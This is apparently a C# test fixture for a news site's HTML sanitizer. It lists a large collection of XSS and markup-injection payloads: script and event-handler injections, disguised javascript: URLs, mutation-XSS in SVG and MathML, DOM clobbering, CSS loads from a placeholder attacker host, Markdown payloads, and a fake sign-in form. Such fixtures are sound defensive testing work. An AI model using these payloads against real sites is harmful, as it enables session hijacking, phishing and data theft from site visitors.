namespace CuratedNews.Web.Tests.Hostile;

/// <summary>Bodies that attack a page, by class: each list is what one class has, or every carrier of it with every disguise.</summary>
internal static class HostileBodies
{
    private const string Evil = EvilSite.Placeholder;

    public static IReadOnlyList<HostileCase> All { get; } =
    [
        .. Of("script", Scripts),
        .. Of("handler", Handlers.SelectMany(handler => (string[])[$"<{handler}>", $"<{handler.Replace(" on", "/ON", StringComparison.Ordinal)}>"])),
        .. Of("address", Disguises.SelectMany(disguise => Carriers.Select(carrier => string.Format(System.Globalization.CultureInfo.InvariantCulture, carrier, disguise)))),
        .. Of("load", Loads),
        .. Of("foreign content", ForeignContent),
        .. Of("mutation", Containers.Select(container => $"<{container}><p title=\"</{container}><img src=x onerror=canary()>\">inside")),
        .. Of("mutation", Mutations),
        .. Of("nesting", Nestings),
        .. Of("clobbering", Names.SelectMany(name => (string[])[$"<a id={name} name={name} href=\"https://example.org/\">a</a>", $"<form id={name}><input name=attributes><p>in it</p></form>"])),
        .. Of("style", Styles),
        .. Of("encoding", Encodings),
        .. Of("comment", Comments),
        .. Of("Markdown", MarkdownBodies),
        .. Of("page", PageBreakers),
    ];

    private static string[] Scripts =>
    [
        "<script>canary()</script>", "<SCRIPT>canary()</SCRIPT >", "<script/x>canary()</script>", "<script\f>canary()</script>", "<scr<script>ipt>canary()</scr</script>ipt>", "<script><!--<script></script>-->canary()</script>",
        "<script type=module>canary()</script>", $"<script src=\"{Evil}/x.js\"></script>", $"<script src=\"//{EvilSite.Authority}/x.js\"></script>", "<script src=\"data:text/javascript,canary()\"></script>",
        $"<script type=importmap>{{\"imports\":{{\"a\":\"{Evil}/a.js\"}}}}</script>", $"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{Evil}/speculated\"]}}]}}</script>",
        "<svg><script>canary()</script></svg>", "<svg><script href=\"data:text/javascript,canary()\"></script></svg>", "<svg><script xlink:href=\"data:text/javascript,canary()\" /></svg>", "<math><script>canary()</script></math>",
        "<iframe srcdoc=\"<script>parent.canary()</script>\"></iframe>", "<iframe src=\"javascript:parent.canary()\"></iframe>", "<iframe srcdoc=\"&lt;img src=x onerror=parent.canary()&gt;\"></iframe>",
        "<object data=\"javascript:canary()\"></object>", "<embed src=\"javascript:canary()\">", "<object data=\"data:text/html,<script>parent.canary()</script>\"></object>",
        "<noscript><script>canary()</script></noscript>", "<template shadowrootmode=open><script>canary()</script></template>", "<div><template shadowrootmode=open><img src=x onerror=canary()></template></div>",
        "<script>canary()", "<style><script>canary()</script></style>", "<xml><script>canary()</script></xml>", "<p><script>canary()</p></script>", "<table><script>canary()</script></table>", "<select><script>canary()</script></select>",
        "<frameset onload=canary()>", "<html onload=canary()>", "<head><script>canary()</script></head>",
    ];

    private static string[] Handlers =>
    [
        "img src=x onerror=canary()", "img src=x onerror=\"canary()\"", "img src=\"x\"onerror=canary()", "img src=x alt='' onerror='canary()'", "image src=x onerror=canary()", "body onload=canary()", "svg onload=canary()",
        "svg><animate onbegin=canary() attributeName=x dur=1s", "details open ontoggle=canary()", "input autofocus onfocus=canary()", "select autofocus onfocus=canary()", "textarea autofocus onfocus=canary()", "video src=x onerror=canary()",
        "audio src=x onerror=canary()", "video><source onerror=canary() src=x", "marquee onstart=canary()", "p onclick=canary()", "p onmouseover=canary()", "p onpointerover=canary()", "p tabindex=1 onfocus=canary()", "b onbeforeinput=canary() contenteditable",
        "p onpointerrawupdate=canary()", "object data=x onerror=canary()", "style onload=canary()", "link rel=stylesheet href=x onerror=canary()", "iframe onload=canary()", "p style='animation:x 1s' onanimationstart=canary()", "p style='transition:all 1s' ontransitionrun=canary()",
        "p popover id=pop onbeforetoggle=canary()", "xss autofocus tabindex=1 onfocus=canary()", "p onscrollsnapchange=canary()", "p oncontentvisibilityautostatechange=canary() style='content-visibility:auto'",
    ];

    private static string[] Carriers => ["<a href=\"{0}\">a</a>", "<svg><a xlink:href=\"{0}\"><text y=9>a</text></a></svg>", "<form action=\"{0}\"><button>go</button></form>", "<iframe src=\"{0}\"></iframe>"];

    private static string[] Disguises =>
    [
        "javascript:canary()", "JaVaScRiPt:canary()", " javascript:canary()", "&#1;javascript:canary()", "jav&#x09;ascript:canary()", "jav&#x0A;ascript:canary()", "jav&NewLine;ascript:canary()", "java\tscript:canary()", "java\nscript:canary()", "javascript&colon;canary()",
        "javascript&#58;canary()", "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#99&#97&#110&#97&#114&#121&#40&#41", "javascript:/*--></title></style></textarea></script>*/canary()", "javascript://example.org/%0acanary()", "javascript:javascript:canary()",
        "data:text/html,<script>canary()</script>", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", "vbscript:canary()", "blob:https://example.org/1", "feed:javascript:canary()", "view-source:javascript:canary()", "&#x200B;javascript:canary()", "\u00A0javascript:canary()",
        "java\u00ADscript:canary()", "javascript\uFF1Acanary()", "about:blank#canary()", "//&#0;javascript:canary()",
    ];

    private static string[] Loads =>
    [
        $"<img src=\"{Evil}/i.png\">", $"<img srcset=\"{Evil}/s.png 1x, {Evil}/t.png 2x\" src=x>", $"<picture><source srcset=\"{Evil}/p.webp\"><img src=x></picture>", $"<img src=x lowsrc=\"{Evil}/l\" dynsrc=\"{Evil}/d\">", $"<input type=image src=\"{Evil}/n.png\">",
        $"<video poster=\"{Evil}/v.png\"></video>", $"<video src=\"{Evil}/v.mp4\" autoplay></video>", $"<audio src=\"{Evil}/a.mp3\" autoplay></audio>", $"<video><track default src=\"{Evil}/t.vtt\"></video>", $"<iframe src=\"{Evil}/f\"></iframe>", $"<embed src=\"{Evil}/e\">", $"<object data=\"{Evil}/o\"></object>",
        $"<link rel=stylesheet href=\"{Evil}/c.css\">", $"<link rel=prefetch href=\"{Evil}/p\">", $"<link rel=preload as=image href=\"{Evil}/q\">", $"<link rel=preconnect href=\"{Evil}/\">", $"<link rel=dns-prefetch href=\"{Evil}/\">", $"<link rel=icon href=\"{Evil}/i.ico\">", $"<link rel=modulepreload href=\"{Evil}/m.js\">", $"<link rel=manifest href=\"{Evil}/m.json\">", $"<link rel=prerender href=\"{Evil}/r\">",
        $"<meta http-equiv=refresh content=\"0;url={Evil}/refresh\">", "<meta http-equiv=refresh content=\"0;url=javascript:canary()\">", $"<base href=\"{Evil}/\"><img src=relative.png>", $"<body background=\"{Evil}/b.png\">", $"<table background=\"{Evil}/t.png\"><tr><td background=\"{Evil}/d.png\">cell</table>",
        $"<svg><image href=\"{Evil}/s.png\" width=9 height=9 /></svg>", $"<svg><use href=\"{Evil}/u.svg#x\" /></svg>", $"<svg><feImage href=\"{Evil}/f.svg\" /></svg>", $"<svg style=\"background:url({Evil}/b)\"></svg>", $"<bgsound src=\"{Evil}/b.mid\">", $"<portal src=\"{Evil}/portal\"></portal>", $"<a href=\"https://example.org/\" ping=\"{Evil}/ping\">a</a>",
        $"<q cite=\"{Evil}/q\">a</q>", $"<blockquote cite=\"{Evil}/b\">a</blockquote>", $"<html manifest=\"{Evil}/m\">", $"<frameset><frame src=\"{Evil}/f\"></frameset>", $"<img src=\"//{EvilSite.Authority}/no-scheme.png\">", $"<img src=\"\\\\{EvilSite.Authority}/backslash.png\">", $"<img src=\"http:{EvilSite.Authority}/x.png\">", $"<fencedframe src=\"{Evil}/f\"></fencedframe>", $"<script type=text/javascript src={Evil}/s.js async></script>",
    ];

    private static string[] ForeignContent =>
    [
        "<svg><style><img src=x onerror=canary()></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=canary()>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary()&gt;\">",
        "<math><mtext><table><mglyph><style><math><img src onerror=canary()>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=canary()></style></annotation-xml></math>",
        "<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>", "<svg><desc><img src=x onerror=canary()></desc></svg>", "<svg><title><img src=x onerror=canary()></title></svg>", "<svg><p><style><g title=\"</style><img src onerror=canary()>\">", "<svg><set attributeName=onmouseover to=canary()></svg>",
        "<svg><animate attributeName=href values=javascript:canary() /><a id=x><text>a</text></a></svg>", "<svg><a><animate attributeName=href values=javascript:canary() /><text x=20 y=20>a</text></a></svg>", "<math><mi//xlink:href=\"data:x,<script>canary()</script>\">", "<math href=\"javascript:canary()\">a</math>", "<math><maction actiontype=statusline xlink:href=\"javascript:canary()\">a</maction></math>",
        "<svg><![CDATA[><img src=x onerror=canary()>]]></svg>", "<svg><!--<img src=x onerror=canary()>--></svg>", "<svg><x><![CDATA[</x><img src=x onerror=canary()>]]></x></svg>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='canary()'>\"></style></h1>",
        "<!DOCTYPE svg [<!ENTITY x \"<script>canary()</script>\">]><svg>&x;</svg>", "<svg xmlns=\"http://www.w3.org/2000/svg\"><handler type=text/javascript ev:event=load>canary()</handler></svg>", "<svg><iframe><a title=\"</iframe><img src onerror=canary()>\"></svg>", "<svg><noscript><a title=\"</noscript><img src onerror=canary()>\"></svg>",
    ];

    private static string[] Containers => ["noscript", "textarea", "title", "style", "xmp", "noembed", "noframes", "iframe", "template", "script", "plaintext", "select", "option", "listing", "math", "svg"];

    private static string[] Mutations =>
    [
        "<p title=\"`<img src=x onerror=canary()>\">a</p>", "<abbr title='\"><img src=x onerror=canary()>'>a</abbr>", "<abbr title=\"&quot;&gt;&lt;img src=x onerror=canary()&gt;\">a</abbr>", "<listing>&lt;img src=1 onerror=canary()&gt;</listing>", "<xmp>&lt;/xmp&gt;<img src=x onerror=canary()></xmp>",
        "<p>a<plaintext></p><img src=x onerror=canary()>", "<a<img src=x onerror=canary()>", "<p/<img src=x onerror=canary()>", "</<img src=x onerror=canary()>", "<![<img src=x onerror=canary()>", "<?<img src=x onerror=canary()>", "<p title=a><img src=x onerror=canary()\"", "<a href=\"x\"\"<img src=x onerror=canary()>\">a</a>",
        "&lt;img src=x onerror=canary()&gt;", "&amp;lt;img src=x onerror=canary()&amp;gt;", "&#60;img src=x onerror=canary()&#62;", "<code>&lt;script&gt;canary()&lt;/script&gt;</code>", "<select><style><img src=x onerror=canary()></style></select>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=canary()>\">",
        "<table><caption><style><!--</style></caption></table><img title=\"--><img src=x onerror=canary()>\">", "<svg><mtext><textarea><a title=\"</textarea><img src onerror=canary()>\">", "<p><svg><style><!--</style><img title=\"--></style><img src onerror=canary()>\">",
    ];

    private static string[] Nestings =>
    [
        "<form><div></form><form><img src=x onerror=canary()>", "<table><a href=\"javascript:canary()\"><tr><td>a</table>", "<table><tr><td><table><form><tr><img src=x onerror=canary()></table>", "<a href=/news/><a href=\"javascript:canary()\">a</a></a>", "<button><button formaction=\"javascript:canary()\">a</button></button>",
        string.Concat(Enumerable.Repeat("<div>", 600)) + "<img src=x onerror=canary()>", string.Concat(Enumerable.Repeat("<b><i>", 300)) + "<script>canary()</script>", string.Concat(Enumerable.Repeat("<blockquote>", 300)) + "deep <img src=x onerror=canary()>", string.Concat(Enumerable.Repeat("<svg><foreignObject>", 200)) + "<img src=x onerror=canary()>",
        string.Concat(Enumerable.Repeat("<table><tr><td>", 200)) + "<img src=x onerror=canary()>", string.Concat(Enumerable.Repeat("<form>", 300)) + "<input autofocus onfocus=canary()>", string.Concat(Enumerable.Repeat("<math><mtext>", 256)) + "<table><mglyph><style><img src=x onerror=canary()>", string.Concat(Enumerable.Repeat("<template>", 200)) + "<img src=x onerror=canary()>",
        "<b><p></b><script>canary()</script></p>", "<p><table><p><script>canary()</script>", "<ul><p><li><img src=x onerror=canary()></ul>", "<dl><form><dt></dl><img src=x onerror=canary()>", "<h2><h3><img src=x onerror=canary()></h2>", "<nobr><b><nobr><i><img src=x onerror=canary()></b>", "<frameset><noframes><img src=x onerror=canary()></noframes>",
        "</main></body></html><script>canary()</script>", "</article></main><form id=search action=" + Evil + "><input autofocus onfocus=canary()>",
    ];

    private static string[] Names => ["document", "location", "cookie", "body", "forms", "getElementById", "canary", "main", "theme", "search", "defaultView", "__proto__"];

    private static string[] Styles =>
    [
        $"<style>@import '{Evil}/i.css';</style>", $"<style>body{{background:url({Evil}/b)}}</style>", "<style>*{display:none!important}</style>", $"<p style=\"background:url({Evil}/p)\">a</p>", $"<p style=\"background:url(&quot;{Evil}/q&quot;)\">a</p>", $"<p style=\"list-style-image:url({Evil}/l)\">a</p>", $"<p style=\"b\\61ckground:u\\72l({Evil}/e)\">a</p>",
        "<p style=\"position:fixed;inset:0;z-index:9999;background:red\">a</p>", "<p style=\"width:expression(canary())\">a</p>", "<p style=\"behavior:url(x.htc)\">a</p>", $"<p style=\"-moz-binding:url({Evil}/x.xml#y)\">a</p>", $"<font style=\"src:url({Evil}/f.woff)\">a</font>", $"<style>@font-face{{font-family:x;src:url({Evil}/f)}}p{{font-family:x}}</style>", $"<p style=\"cursor:url({Evil}/c),auto\">a</p>",
        $"<p style=\"content:url({Evil}/c)\">a</p>", $"<p style=\"mask:url({Evil}/m)\">a</p>", $"<p style=\"border-image:url({Evil}/b)\">a</p>", $"<p style=\"filter:url({Evil}/f.svg#x)\">a</p>", $"<p style=\"background:image-set('{Evil}/is' 1x)\">a</p>", "<p class=\"masthead skip\" id=main hidden inert dir=rtl>a</p>",
    ];

    private static string[] Encodings =>
    [
        "<scr&#0;ipt>canary()</script>", "\u2028<script>canary()</script>\u2029", "\uFEFF<img src=x onerror=canary()>", "<img src=x onerror\u000B=canary()>", "<img\u000Csrc=x\u000Conerror=canary()>", "<img/src=x/onerror=canary()>", "<img src=x onerror=&#99;anary()>", "<img src=x onerror=canary&lpar;&rpar;>",
        "+ADw-script+AD4-canary()+ADw-/script+AD4-", "%3Cscript%3Ecanary()%3C/script%3E", "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "\uFF1Cscript\uFF1Ecanary()\uFF1C/script\uFF1E", "\u202E<script>canary()</script>\u202C", "&#x3C;script&#x3E;canary()&#x3C;/script&#x3E;", "&lt;!--&gt;<img src=x onerror=canary()>", "\u0001\u0002\u0007<b>controls</b>\u001B[31m",
        "<p>\u00ADsoft\u200B\u200D\u2060 joiners</p><img src=x onerror=canary()>", "<p>]]&gt; ]]> <![CDATA[ </p><img src=x onerror=canary()>", "<p>\uFFFE \uFFFF \uFDD0</p><img src=x onerror=canary()>", "<p>&#xFFFE;&#xD800;&#x1F;&#0;</p><img src=x onerror=canary()>",
    ];

    private static string[] Comments =>
    [
        "<!--><img src=x onerror=canary()>-->", "<!---><img src=x onerror=canary()>-->", "<!-- --!><img src=x onerror=canary()> -->", "<!--[if gte IE 4]><script>canary()</script><![endif]-->", "<!--<!--><img src=x onerror=canary()>--><!-->", "<![CDATA[<img src=x onerror=canary()>]]>", "<?xml version=\"1.0\"?><img src=x onerror=canary()>", "<?php echo '<script>canary()</script>' ?>",
        "<% <img src=x onerror=canary()> %>", "<!ELEMENT img><img src=x onerror=canary()>", "<!-- </main></body><script>canary()</script>", "<!--\n--\n><img src=x onerror=canary()>-->", "<!-- @using System @canary() --><p>@(canary())</p>", "{{canary()}} ${canary()} #{canary()} <%= canary() %>",
    ];

    private static string[] MarkdownBodies =>
    [
        "[a](javascript:canary())", "[a](<javascript:canary()>)", "[a](javascript&colon;canary())", "[a](JAVASCRIPT:canary() \"title\")", "[a](data:text/html,<script>canary()</script>)", "[a]\n\n[a]: javascript:canary()", "[a][b]\n\n[b]: <javascript:canary()> 'x'", "<javascript:canary()>", "<data:text/html,canary()>", $"![i]({Evil}/m.png)", $"![i][r]\n\n[r]: {Evil}/r.png", "![a\"onerror=\"canary()](x)",
        "![](x \"onerror=canary()\")", "[a](x \"\" onclick=canary())", "[a](https://example.org/\"onclick=\"canary())", "[a](https://example.org/ 'x\" onclick=\"canary()')", "`<img src=x onerror=canary()>`", "```html onload=canary()\n<script>canary()</script>\n```", "```\"><img src=x onerror=canary()>\ntext\n```", "    <script>canary()</script>", "> <script>canary()</script>", "- <img src=x onerror=canary()>", "1. <svg onload=canary()>", "# <img src=x onerror=canary()>",
        "| a | <img src=x onerror=canary()> |\n|-|-|\n| <script>canary()</script> | [b](javascript:canary()) |", "a\n: <img src=x onerror=canary()>", "~~<img src=x onerror=canary()>~~", "*<img src=x onerror=canary()>*", "\\<img src=x onerror=canary()>", "&lt;img src=x onerror=canary()&gt;", "<div>\n\n<script>canary()</script>\n\n</div>", "<div\n\nonclick=canary()>", "<a href=\"\njavascript:canary()\">a</a>", "http://example.org/\"onmouseover=canary()", "www.example.org/<script>canary()</script>",
        "<https://example.org/\"onclick=canary()>", "a@b.c\"onclick=canary()", "[a](vbscript:canary())", "[![a](javascript:canary())](javascript:canary())", "[a](  javascript:canary()  )", "[a](\u0001javascript:canary())", "[a](%6Aavascript:canary())", "{onclick=canary()}", "# head {onclick=canary()}", "[toc]\n\n@canary()", $"[a]({Evil}/link)", "<!-- -->\n<script>canary()</script>", "[a]: x\n\n<img src=x onerror=canary()>\n[a]",
    ];

    private static string[] PageBreakers =>
    [
        "</p></div></section></article></main><h1>Another</h1>", "<h1>Another headline</h1><title>x</title>", "<link rel=canonical href=\"" + Evil + "/\">", "<meta name=robots content=noindex>", "<script type=\"application/ld+json\">{\"@type\":\"x\"}</script>", "<p id=main>a</p><a href=#main>b</a>", "<dialog open>covers</dialog>", "<p hidden>a</p><p aria-hidden=true>b</p>", "<nav class=trail><ol><li>x</ol></nav>", "<marquee>moves</marquee><blink>b</blink>", "<input type=password name=secret><button>Sign in</button>",
        "<a href=\"/preview/sign-in\">in</a><a href=/healthz>h</a>", "<a href=\"/news/../preview\">a</a>", "<a href=\"/%70review\">a</a>", "<a href=\"//" + EvilSite.Authority + "/\">a</a>", "<a href=\"/\\" + EvilSite.Authority + "/\">a</a>", "<a href=\"https://example.org@" + EvilSite.Authority + "/\">a</a>", "<a target=_blank rel=opener href=\"" + Evil + "/opened\">a</a>", "<a download href=/news/>a</a>",
    ];

    private static IEnumerable<HostileCase> Of(string name, IEnumerable<string> bodies) => bodies.Distinct(StringComparer.Ordinal).Select(body => new HostileCase(name, body));
}
